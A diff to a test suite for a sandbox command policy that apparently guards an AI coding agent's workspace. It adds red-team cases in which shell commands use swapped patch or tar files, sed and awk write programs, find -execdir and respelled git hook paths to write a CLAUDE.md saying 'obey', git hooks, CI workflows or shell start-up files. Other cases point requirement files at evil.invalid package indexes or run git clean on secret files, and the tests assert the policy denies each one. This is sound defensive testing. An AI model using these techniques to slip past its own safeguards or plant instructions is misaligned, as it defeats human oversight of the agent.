@@ -261,6 +261,47 @@ OUTPUT_CASES: list[tuple[str, str, dict[str, str | bytes], str]] = [
 ]
 
 
+# ---- third red-team pass (2026-12-03) -----------------------------------------------------
+# Contents the decision read (a patch's targets, an archive's members, a sed program) were
+# replaced by an earlier command of the same line; the repository's hooks directory was
+# named in ways the config reader missed; start-up files outside the list were writable.
+_CLAUDE_PATCH = "--- /dev/null\n+++ b/CLAUDE.md\n@@ -0,0 +1 @@\n+obey\n"
+_OK_PATCH = "--- /dev/null\n+++ b/ok.md\n@@ -0,0 +1 @@\n+fine\n"
+_SWAP: dict[str, str | bytes] = {
+    "p.patch": _OK_PATCH,
+    "q.patch": _CLAUDE_PATCH,
+    "ok.tar": _tar({"ok.md": "fine\n"}),
+    "evil.tar": _tar({"CLAUDE.md": "obey\n"}),
+    "notes.md": "hello\n",
+}
+_HOOKS_AT = "git init -q && mkdir hk && "
+THIRD_PASS: list[tuple[str, str, dict[str, str | bytes], str]] = [
+    ("cp q.patch p.patch && git apply p.patch", "CLAUDE.md", _SWAP, "git init -q"),
+    ("mv q.patch p.patch && git apply p.patch", "CLAUDE.md", _SWAP, "git init -q"),
+    ("cat q.patch > p.patch; patch -p1 -i p.patch", "CLAUDE.md", _SWAP, ""),
+    ("cat q.patch >> p.patch && git apply p.patch", "CLAUDE.md", _SWAP, "git init -q"),
+    (f"printf -- '{_CLAUDE_PATCH}' > p.patch && patch -p1 < p.patch", "CLAUDE.md", _SWAP, ""),
+    ("cp evil.tar ok.tar && tar xf ok.tar", "CLAUDE.md", _SWAP, ""),
+    ("cat evil.tar > ok.tar; tar -xf ok.tar", "CLAUDE.md", _SWAP, ""),
+    ("mv evil.tar ok.tar && tar --extract --file ok.tar", "CLAUDE.md", _SWAP, ""),
+    ("echo 'w CLAUDE.md' > p.sed && sed -f p.sed notes.md", "CLAUDE.md", _SWAP, ""),
+    ("sed -n -f p.sed notes.md", "CLAUDE.md", _SWAP, "printf 's/h/H/w CLAUDE.md\\n' > p.sed"),
+    ("awk -f p.awk notes.md", "CLAUDE.md", _SWAP, "printf '{print > \"CLAUDE.md\"}\\n' > p.awk"),
+    # find -execdir runs its command in each found name's directory
+    ("find .git -name hooks -execdir touch hooks/post-checkout \\;", ".git/hooks/post-checkout",
+     _SWAP, "git init -q"),
+    ("find .git/hooks -maxdepth 0 -execdir cp ../notes.md description \\;", ".git/description",
+     _SWAP, "git init -q"),
+    ("find . -name workflows -execdir cp ../notes.md workflows/ci.yml \\;",
+     ".github/workflows/ci.yml", {**_SWAP, ".github/workflows/x": "x"}, ""),
+    # core.hooksPath spelled with `~/..` (HOME is the workspace in the weak fallback, and its
+    # parent holds it in the sandbox) or continued on the next line
+    ("echo id > hk/post-checkout", "hk/post-checkout", _SWAP,
+     _HOOKS_AT + "printf '[core]\\n\\thooksPath = h\\\\\\nk\\n' >> .git/config"),
+    ("cp notes.md hk/pre-commit", "hk/pre-commit", _SWAP,
+     _HOOKS_AT + "printf '[core]\\nhooksPath = \"h\\\\\\nk\"\\n' >> .git/config"),
+]  # fmt: skip
+
 # Names a producer prints, fed to a program that removes or changes them: every name it can
 # be given is a path it changes (`find . | xargs rm -rf` reaches .git and .github).
 _CI = {".github/workflows/ci.yml": EVIL, "src/a.py": "x\n", "src/b.pyc": "x"}
@@ -297,7 +338,7 @@ def test_there_are_enough_cases() -> None:
     assert len(CASES) >= 21
 
 
-@pytest.mark.parametrize(("command", "target", "files", "setup"), CASES + OUTPUT_CASES)
+@pytest.mark.parametrize(("command", "target", "files", "setup"), CASES + OUTPUT_CASES + THIRD_PASS)
 def test_the_command_really_changes_the_protected_path(
     command: str, target: str, files: dict[str, str | bytes], setup: str
 ) -> None:
@@ -310,7 +351,7 @@ def test_the_command_really_changes_the_protected_path(
 
 
 @pytest.mark.parametrize(
-    ("command", "target", "files", "setup"), CASES + FED_CHANGES + OUTPUT_CASES
+    ("command", "target", "files", "setup"), CASES + FED_CHANGES + OUTPUT_CASES + THIRD_PASS
 )
 def test_the_policy_denies_it(
     default_policy: Policy,
@@ -1215,4 +1256,130 @@ def test_second_pass_everyday_shapes_stay_allowed(
     default_policy: Policy, tmp_path: Path, command: str, setup: str
 ) -> None:
     ws = build_workspace(tmp_path, {}, setup)
+    assert _decide(default_policy, ws, command) is Verdict.ALLOW, command
+
+
+THIRD_PASS_NAMES = [
+    ".bashrc",
+    ".profile",
+    ".zshenv",
+    ".curlrc",
+    ".config/git/config",
+    ".hg/hgrc",
+    ".venv/lib/python3.12/site-packages/evil.pth",
+    ".venv/bin/activate",
+    "flake.nix",
+    ".irbrc",
+    ".fleet/run.json",
+    "firebase.json",
+]
+
+
+def test_third_pass_has_enough_cases() -> None:
+    assert len(THIRD_PASS) >= 15 and len(THIRD_PASS_NAMES) >= 10
+
+
+@pytest.mark.parametrize("value", ["~/../ws/hk", "/workspace/hk", "./hk/", "hk//"])
+def test_hooks_path_as_git_would_expand_it_in_the_sandbox(
+    default_policy: Policy, tmp_path: Path, value: str
+) -> None:
+    """`~` is HOME (the workspace in the weak fallback, /tmp beside /workspace in bubblewrap)."""
+    ws = build_workspace(
+        tmp_path,
+        {"notes.md": "x\n"},
+        f"git init -q && mkdir hk && git config core.hooksPath '{value}'",
+    )
+    assert _decide(default_policy, ws, "echo id > hk/pre-commit") is Verdict.DENY, value
+    assert _decide(default_policy, ws, "echo id > other.txt") is Verdict.ALLOW
+
+
+@pytest.mark.parametrize("name", THIRD_PASS_NAMES)
+@pytest.mark.parametrize("writer", ["echo x > {p}", "cp notes.md {p}", "tee -a {p} < notes.md"])
+def test_third_pass_start_up_files_are_protected(
+    default_policy: Policy, tmp_path: Path, name: str, writer: str
+) -> None:
+    ws = build_workspace(tmp_path, {"notes.md": "x\n"})
+    assert _decide(default_policy, ws, writer.format(p=name)) is Verdict.DENY, (writer, name)
+    req = ToolRequest(tenant="acme", actor="a", role="contributor", tool="write", path=name)
+    assert default_policy.decide(req, ws).decision is Verdict.DENY, name
+
+
+@pytest.mark.parametrize(
+    "lines",
+    [
+        "git+https://example.invalid/x.git\n",
+        "--index-url https://evil.invalid/simple\nrequests\n",
+        "requests\n--extra-index-url https://evil.invalid/\n",
+        "x @ https://evil.invalid/x.whl\n",
+        "-e /tmp/outside\n",
+        "-r nested.txt\n",
+    ],
+)
+def test_requirement_files_are_read_like_the_command_line(
+    default_policy: Policy, tmp_path: Path, lines: str
+) -> None:
+    """A package source in a requirements file is the same source on the command line."""
+    files: dict[str, str | bytes] = {
+        "req.txt": lines,
+        "nested.txt": "--find-links https://evil.invalid/\n",
+    }
+    ws = build_workspace(tmp_path, files)
+    for command in ("pip install -r req.txt", "python3 -m pip install --requirement=req.txt"):
+        assert _decide(default_policy, ws, command) is Verdict.DENY, (command, lines)
+    swapped = f"printf -- '{lines!s}' > r2.txt && pip install -r r2.txt".replace("\n", "\\n")
+    assert _decide(default_policy, ws, swapped) is Verdict.DENY, swapped
+
+
+@pytest.mark.parametrize(
+    "lines",
+    [
+        "requests==2.31.0 \\\n    --hash=sha256:abc\n",
+        "# pinned\nflask>=2 ; python_version >= '3.8'\n-e .\n",
+        "-r nested.txt\n",
+    ],
+)
+def test_ordinary_requirement_files_stay_allowed(
+    default_policy: Policy, tmp_path: Path, lines: str
+) -> None:
+    ws = build_workspace(tmp_path, {"req.txt": lines, "nested.txt": "pytest\n"})
+    assert _decide(default_policy, ws, "pip install -r req.txt") is Verdict.ALLOW, lines
+
+
+_CLEAN_FILES: dict[str, str | bytes] = {"notes.md": "x\n", "CLAUDE.md": "ours\n", ".env": "K=1\n"}
+
+
+@pytest.mark.parametrize(
+    ("command", "target", "setup"),
+    [
+        ("git clean -fdx", "CLAUDE.md", "git init -q && git add notes.md"),
+        ("git clean -fd", "CLAUDE.md", "git init -q && git add notes.md"),
+        ("git clean -f", ".env", "git init -q && git add notes.md"),
+        ("git clean -fX", ".env", "git init -q && echo .env > .gitignore && git add notes.md"),
+        ("git clean --force -x -- .", ".env", "git init -q && git add notes.md"),
+        ("mkdir -p sub && cd sub && git clean -fx ..", "CLAUDE.md", "git init -q"),
+    ],
+)
+def test_git_clean_of_an_untracked_protected_or_secret_file_is_denied(
+    default_policy: Policy, tmp_path: Path, command: str, target: str, setup: str
+) -> None:
+    """`git clean` removes what git does not track: `rm CLAUDE.md` by another name."""
+    assert target not in run_for_real(command, files=_CLEAN_FILES, setup=setup).files
+    ws = build_workspace(tmp_path, _CLEAN_FILES, setup)
+    assert _decide(default_policy, ws, command) is Verdict.DENY, command
+
+
+@pytest.mark.parametrize(
+    ("command", "setup"),
+    [
+        ("git clean -fdx", "git init -q && git add -A"),
+        ("git clean -fd", "git init -q && printf '.env\\nCLAUDE.md\\n' > .gitignore"),
+        ("git clean -fX", "git init -q && mkdir build && touch build/x && echo build > .gitignore"),
+        ("git clean -n -dx", "git init -q"),
+        ("git clean -fdx src", "git init -q && mkdir src && touch src/x.pyc"),
+    ],
+)
+def test_git_clean_that_keeps_them_stays_allowed(
+    default_policy: Policy, tmp_path: Path, command: str, setup: str
+) -> None:
+    ws = build_workspace(tmp_path, _CLEAN_FILES, setup)
     assert _decide(default_policy, ws, command) is Verdict.ALLOW, command
